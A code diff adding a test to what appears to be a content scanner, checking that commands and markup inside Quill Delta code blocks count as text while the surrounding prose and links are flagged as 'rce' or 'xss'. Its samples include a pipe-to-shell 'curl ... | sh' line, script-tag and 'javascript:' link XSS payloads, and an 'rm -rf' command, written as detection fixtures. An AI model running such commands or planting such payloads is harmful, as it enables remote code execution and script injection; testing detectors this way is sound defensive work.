@@ -652,6 +652,39 @@ def test_a_rich_text_editors_code_is_shown_as_text(engine: Engine) -> None:
     assert types(adf({"type": "paragraph", "content": [linked]})) == {"xss"}
 
 
+def test_a_quill_deltas_code_is_shown_as_text(engine: Engine) -> None:
+    """Quill's Delta marks a code block's line on the newline after it, and Quill joins
+    the line with the paragraph above it: the line is cut from the op's end, and inline
+    code (`code`) is left out. The paragraph before it, the document's other ops and its
+    links are scanned."""
+    command = "kubectl apply -f x.yaml && curl -s https://get.example.com/ | sh"
+    markup = '<div onclick="dismiss()">Saved</div><script>alert(1)</script>'
+
+    def block(language: object = True) -> dict[str, object]:
+        return {"insert": "\n", "attributes": {"code-block": language}}
+
+    ops = [
+        {"insert": "Deploy steps\n" + command},  # the block's first line, joined to the prose
+        block(),
+        {"insert": markup},
+        block("html"),
+        {"insert": "Then run "},
+        {"insert": "rm -rf build && make", "attributes": {"code": True}},
+        {"insert": " once.\n"},
+    ]
+    types = partial(_json_types, engine)
+    assert types({"title": "Deploy", "body": {"ops": ops}}) == set()
+    assert types({"ops": ops}) == set()
+    # The paragraph above a block, another op, a link: scanned.
+    joined = [{"insert": f"{markup}\n{command}"}, block()]
+    assert types({"ops": joined}) == {"xss"}
+    assert types({"ops": [*ops, {"insert": f"{command}\n"}]}) == {"rce"}
+    link = {"insert": "docs", "attributes": {"link": "javascript:alert(document.domain)"}}
+    assert types({"ops": [*ops, link]}) == {"xss"}
+    # A line that ends with a newline of no code block is no code block's.
+    assert types({"ops": [ops[0], {"insert": "\n"}, *ops[2:]]}) == {"rce"}
+
+
 @pytest.mark.parametrize(
     "sample",
     [
